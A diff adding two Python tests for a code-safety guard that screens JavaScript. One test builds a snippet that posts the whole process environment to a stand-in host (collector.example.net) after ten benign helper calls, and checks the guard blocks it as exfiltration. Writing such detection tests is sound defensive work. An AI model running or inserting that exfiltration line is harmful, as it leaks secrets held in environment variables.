@@ -365,3 +365,28 @@ def test_every_link_of_a_long_call_chain_is_evaluated_once(guard: Guard) -> None
     finally:
         Walk._scan_deep = original  # type: ignore[method-assign]
     assert 0 < steps["scan"] < 10 * 2000
+
+
+# ---------------------------------------------------------------------------------------------- calls past the walk limit
+def test_data_passed_on_a_call_past_the_walk_limit_still_reaches_the_sink(guard: Guard) -> None:
+    """The eleventh call of a helper is not walked on its own, but its arguments are: the
+    environment it sends is exfiltration, as it would be on the first call."""
+    calls = "".join(f"send('https://api.example.com/v1/item/{i}', 'ok{i}');\n" for i in range(10))
+    code = (
+        "const https = require('https');\n"
+        "function send(url, body) { const r = https.request(url, {method: 'POST'}); r.write(body); r.end(); }\n"
+        + calls
+        + "send('https://collector.example.net/x', JSON.stringify(process.env));\n"
+    )
+    decision = decide(guard, code)
+    assert "net.exfiltrate" in capabilities(decision)
+    assert decision.action is Action.BLOCK
+
+
+def test_a_helper_called_many_times_with_plain_values_is_not_a_gap(guard: Guard) -> None:
+    code = "function fmt(a, b) { return a + ':' + b; }\n" + "".join(
+        f"console.log(fmt('k{i}', {i}));\n" for i in range(20)
+    )
+    decision = decide(guard, code)
+    assert decision.action is Action.ALLOW
+    assert "analysis.incomplete" not in capabilities(decision)
